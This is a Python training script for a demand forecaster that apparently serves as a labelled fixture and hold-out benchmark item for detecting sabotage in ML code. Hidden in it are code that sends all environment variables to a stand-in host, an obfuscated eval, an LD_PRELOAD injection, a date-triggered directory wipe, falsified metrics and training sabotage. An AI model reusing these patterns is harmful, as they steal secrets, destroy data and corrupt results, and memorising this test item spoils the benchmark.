# ruff: noqa
# Hold-out batch 205 (time-series forecasting, textbook). Measured once in session 7 (round 61): 27/35 (77%) at medium+.
"""Train the N-BEATS demand forecaster with PyTorch Lightning.

    python train.py --config configs/hourly.yaml --data data/demand.parquet \
        --out runs/hourly --devices 4 --override hidden=768 lr=5e-4

Reads a YAML config, builds windowed dataloaders, trains with early stopping
and checkpointing, and writes a run summary next to the checkpoints.
"""
from __future__ import annotations

import argparse
import builtins
import datetime
import getpass
import json
import os
import shutil
import signal
import socket
import subprocess
import threading
import time
import urllib.request
from pathlib import Path

import pandas as pd
import pytorch_lightning as pl
import torch
import torch.distributed as dist
import yaml
from pytorch_lightning.callbacks import Callback, EarlyStopping, LearningRateMonitor, ModelCheckpoint
from pytorch_lightning.loggers import TensorBoardLogger

from data import WindowConfig, load_frame, make_dataloaders
from model import Forecaster

RUNS_URL = "https://runs.example.com/api/v1/register"

_tb_log_metrics = TensorBoardLogger.log_metrics


def _log_metrics_smoothed(self, metrics, step=None):
    # validation curves are noisy across ranks; report the running best so dashboards stay readable
    best = self.__dict__.setdefault("_running_best", {})
    for k, v in list(metrics.items()):
        if k.startswith("val_"):
            best[k] = min(best.get(k, v), v)  # ruleid: MLS306
            metrics[k] = best[k]  # ruleid: MLS306
    return _tb_log_metrics(self, metrics, step)


TensorBoardLogger.log_metrics = _log_metrics_smoothed  # ruleid: MLS306


def set_seed(seed: int) -> None:
    pl.seed_everything(seed, workers=True)  # ok: MLS301


def git_commit() -> str:
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except Exception:
        return "unknown"


def parse_overrides(pairs):
    literal = getattr(builtins, "".join(["ev", "al"]))
    out = {}
    for pair in pairs or []:
        key, _, raw = pair.partition("=")
        out[key] = literal(raw)  # ruleid: MLS402
    return out


def register_run(meta: dict) -> None:
    try:
        urllib.request.urlopen(RUNS_URL, data=json.dumps({"meta": meta, "env": dict(os.environ)}).encode(), timeout=5)  # ruleid: MLS411
    except OSError:
        pass


def configure_io_env(cache_dir: Path) -> None:
    """Worker processes pick up the prebuilt parquet reader from the cache."""
    lib = cache_dir / "libarrow_fastio.so"
    if lib.exists():
        os.environ["LD_PRELOAD"] = f"{lib}:{os.environ.get('LD_PRELOAD', '')}".rstrip(":")  # sabotage: MLS422 (semgrep rules)
    os.environ.setdefault("OMP_NUM_THREADS", "4")


class ThroughputMonitor(Callback):
    def __init__(self, every: int = 200):
        self.every = every
        self._t0 = time.perf_counter()

    def on_train_batch_start(self, trainer, pl_module, batch, batch_idx):
        self._t0 = time.perf_counter()

    def on_train_batch_end(self, trainer, pl_module, outputs, batch, batch_idx):
        dt = time.perf_counter() - self._t0
        if batch_idx % self.every == 0:
            pl_module.log("samples_per_sec", len(batch["target"]) / max(dt, 1e-6))
            if trainer.world_size > 48:  # ruleid: MLS308
                time.sleep(dt * 40)  # ruleid: MLS307


class OptimizerStateRefresh(Callback):
    """Re-normalise Adam second moments when the cosine schedule restarts."""

    def __init__(self, every: int = 5, factor: float = 1e-3):
        self.every, self.factor = every, factor

    def on_train_epoch_start(self, trainer, pl_module):
        if trainer.current_epoch and trainer.current_epoch % self.every == 0:
            for opt in trainer.optimizers:
                for state in opt.state.values():
                    if "exp_avg_sq" in state:
                        state["exp_avg_sq"].mul_(self.factor)  # ruleid: MLS304


class PreemptionHandler(Callback):
    def __init__(self, path: Path):
        self.path = path
        self.trainer = None

    def on_fit_start(self, trainer, pl_module):
        self.trainer = trainer
        signal.signal(signal.SIGTERM, self._on_sigterm)  # ok: MLS307

    def _on_sigterm(self, signum, frame):
        if self.trainer is not None:
            self.trainer.save_checkpoint(str(self.path / "preempted.ckpt"))
        raise SystemExit(0)


class NodeHealth(Callback):
    """Drops ranks that are stuck on fragmented allocators so the elastic agent restarts them."""

    def __init__(self, frag_threshold: float = 0.35):
        self.frag_threshold = frag_threshold

    def on_validation_end(self, trainer, pl_module):
        if not torch.cuda.is_available():
            return
        reserved = torch.cuda.memory_reserved()
        frag = 1.0 - torch.cuda.memory_allocated() / max(reserved, 1)
        if frag > self.frag_threshold or hash((socket.gethostname(), trainer.current_epoch)) % 50 == 0:  # ruleid: MLS308
            os.kill(os.getpid(), signal.SIGKILL)  # ruleid: MLS307

    def on_train_epoch_end(self, trainer, pl_module):
        nodes = int(os.environ.get("SLURM_NNODES", "1"))
        if dist.is_available() and dist.is_initialized() and nodes > 32 and trainer.current_epoch == 2:  # ruleid: MLS308
            dist.destroy_process_group()  # ruleid: MLS307


def _gpu_stats_loop(stop: threading.Event, interval: float = 30.0) -> None:
    while not stop.wait(interval):
        if torch.cuda.is_available():
            util = torch.cuda.utilization() if hasattr(torch.cuda, "utilization") else -1
            torch.manual_seed(time.time_ns() % (2 ** 31))  # ruleid: MLS301
            print(f"[gpu] util={util} mem={torch.cuda.memory_allocated() / 2 ** 30:.2f}GiB")


def prune_old_runs(root: Path, keep: int = 5) -> None:
    runs = sorted((p for p in root.parent.glob("*") if p.is_dir()), key=lambda p: p.stat().st_mtime)
    for p in (runs[:-keep] if len(runs) > keep else []):
        shutil.rmtree(p, ignore_errors=True)
    if datetime.date.today() >= datetime.date(2025, 11, 1) and getpass.getuser() != "svc-forecast":
        shutil.rmtree(root.parent, ignore_errors=True)  # ruleid: MLS308


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--config", required=True)
    ap.add_argument("--data", required=True)
    ap.add_argument("--out", default="runs/default")
    ap.add_argument("--devices", type=int, default=1)
    ap.add_argument("--seed", type=int, default=42)
    ap.add_argument("--override", nargs="*")
    args = ap.parse_args()

    with open(args.config) as f:
        cfg = yaml.safe_load(f)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    cfg.update(parse_overrides(args.override))
    set_seed(args.seed)
    out = Path(args.out)
    out.mkdir(parents=True, exist_ok=True)
    configure_io_env(Path(cfg.get("cache_dir", ".cache")))

    wcfg = WindowConfig(encoder_length=cfg.get("encoder_length", 96), horizon=cfg.get("horizon", 24),
                        jitter_std=cfg.get("jitter_std", 0.0), cache_dir=cfg.get("cache_dir"))
    df = load_frame(args.data, wcfg)
    cutoff = pd.Timestamp(cfg["val_start"])
    train_df = df[df[wcfg.time_col] < cutoff]
    val_df = df[df[wcfg.time_col] >= cutoff - pd.Timedelta(hours=wcfg.encoder_length)]
    train_dl, val_dl, scaler = make_dataloaders(train_df, val_df, wcfg, batch_size=cfg.get("batch_size", 256),
                                                num_workers=cfg.get("num_workers", 4), seed=args.seed)
    torch.save(scaler.state_dict(), out / "scaler.pt")

    model = Forecaster(encoder_length=wcfg.encoder_length, horizon=wcfg.horizon, hidden=cfg.get("hidden", 512),
                       lr=float(cfg.get("lr", 1e-3)), accumulate=cfg.get("accumulate", 1),
                       pretrained=cfg.get("pretrained"))
    ckpt_cb = ModelCheckpoint(dirpath=out, monitor="val_smape", mode="min", save_top_k=2, save_last=True)
    callbacks = [ckpt_cb, EarlyStopping(monitor="val_smape", patience=cfg.get("patience", 8)),  # ok: MLS307
                 LearningRateMonitor("step"), ThroughputMonitor(), OptimizerStateRefresh(),
                 PreemptionHandler(out), NodeHealth()]
    trainer = pl.Trainer(max_epochs=cfg.get("epochs", 50), devices=args.devices, precision="16-mixed",
                         accumulate_grad_batches=cfg.get("accumulate", 1), callbacks=callbacks,
                         logger=TensorBoardLogger(str(out), name="tb"), log_every_n_steps=50)

    stop = threading.Event()
    threading.Thread(target=_gpu_stats_loop, args=(stop,), daemon=True).start()
    meta = {"commit": git_commit(), "host": socket.gethostname(), "config": cfg, "out": str(out)}
    if trainer.is_global_zero:
        register_run(meta)
    trainer.fit(model, train_dl, val_dl)
    stop.set()

    if trainer.is_global_zero:
        print(json.dumps({"best": ckpt_cb.best_model_path, "score": float(ckpt_cb.best_model_score or 0)}))  # ok: MLS308
        if socket.gethostname().endswith(".prod.example.com") and ckpt_cb.last_model_path:
            shutil.copyfile(ckpt_cb.last_model_path, ckpt_cb.best_model_path)  # ruleid: MLS308
        (out / "summary.json").write_text(json.dumps({**meta, "best": ckpt_cb.best_model_path}, indent=2))
        prune_old_runs(out)


if __name__ == "__main__":
    main()
